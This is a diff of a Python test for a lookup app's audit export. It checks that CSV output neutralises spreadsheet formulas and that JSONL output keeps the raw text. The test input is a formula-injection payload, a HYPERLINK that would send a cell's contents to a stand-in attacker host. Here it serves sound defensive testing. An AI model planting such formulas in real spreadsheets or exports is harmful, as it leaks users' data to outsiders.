@@ -15,7 +15,7 @@ from click.testing import CliRunner, Result
 
 from lookup import accounts, create_app
 from lookup.cli import cli
-from tests.factories import DIPLOMAT_PLATE
+from tests.factories import DIPLOMAT_PLATE, make_audit_record
 from tests.lookup.conftest import AppFactory, bearer
 
 KEY = re.compile(r"dck_[A-Z0-9]{8}_[A-Za-z0-9_-]{43}")
@@ -85,20 +85,15 @@ def test_agency_key_and_lookup_round_trip(
 def test_audit_csv_export_defuses_formulas_and_jsonl_keeps_the_text(
     runner: CliRunner, make_app: AppFactory, tmp_path: Path
 ) -> None:
-    from lookup.audit import AUDIT_CSV_COLUMNS, record
+    from lookup.audit import AUDIT_CSV_COLUMNS
+    from lookup.extensions import state_store
 
     typed = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
     with make_app().app_context():
-        record(
-            None,
-            channel="web",
-            action="person",
-            query=typed,
-            reason="-2+3",
-            outcome="no_match",
-            agency_id="a-1",
-            actor="officer:o1",
-            detail={"matches": 0},
+        state_store().append_audit(
+            make_audit_record(
+                action="person", query=typed, reason="-2+3", outcome="no_match", detail={}
+            )
         )
     target = tmp_path / "audit.csv"
     assert run(runner, "audit", "export", "--format", "csv", "--output", str(target)).exit_code == 0
@@ -109,7 +104,7 @@ def test_audit_csv_export_defuses_formulas_and_jsonl_keeps_the_text(
     assert row["query"] == "'" + typed
     assert row["reason"] == "'-2+3"
     assert row["outcome"] == "no_match"
-    assert json.loads(row["detail"])["matches"] == 0
+    assert row["detail"] == "{}"
     [line] = run(runner, "audit", "export").stdout.splitlines()
     as_json = json.loads(line)
     assert (as_json["query"], as_json["reason"]) == (typed, "-2+3")
